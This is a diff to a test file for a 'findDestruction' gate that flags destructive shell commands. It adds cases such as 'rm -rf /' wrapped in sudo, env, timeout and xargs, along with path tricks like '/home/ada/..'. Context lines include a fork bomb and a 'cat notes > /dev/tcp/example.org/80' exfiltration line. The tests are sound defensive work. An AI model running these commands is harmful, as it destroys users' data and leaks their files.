@@ -31,6 +31,16 @@ test("commands that destroy a system, a disk or a home are recognised in every p
     ["chmod", "-R", "777", "/"],
     ["bash", "-c", "cat notes > /dev/tcp/example.org/80"],
     ["bash", "-c", ":(){ :|: & };:"],
+    ["sudo", "-u", "root", "rm", "-rf", "/"],
+    ["sudo", "--", "rm", "-rf", "/"],
+    ["env", "-i", "A=b", "rm", "-rf", "/"],
+    ["nice", "-n", "10", "rm", "-rf", "/home/ada"],
+    ["timeout", "5", "rm", "-rf", "/"],
+    ["xargs", "-0", "rm", "-rf", "/"],
+    ["rm", "-rf", "/."],
+    ["rm", "-rf", "/home/ada/.."],
+    ["rm", "-rf", "/home/ada/../ada"],
+    ["rm", "--recurs", "-f", "/"],
   ];
   for (const argv of destructive) assert.notEqual(findDestruction(argv, "/home/ada"), null, argv.join(" "));
 });
@@ -49,6 +59,9 @@ test("ordinary deleting, searching and writing does not concern the gate", () =>
     ["wipefs", "/dev/sda"],
     ["chmod", "-R", "u+w", "src"],
     ["bash", "-c", "rm -rf /tmp/x"],
+    ["sudo", "-u", "root", "rm", "-rf", "/srv/build"],
+    ["rm", "-rf", "/home/ada/project/../other"],
+    ["timeout", "5", "find", "/", "-name", "*.tmp", "-delete"],
     ["bash", "-c", "echo done > out.txt"],
   ];
   for (const argv of ordinary) assert.equal(findDestruction(argv, "/home/ada"), null, argv.join(" "));
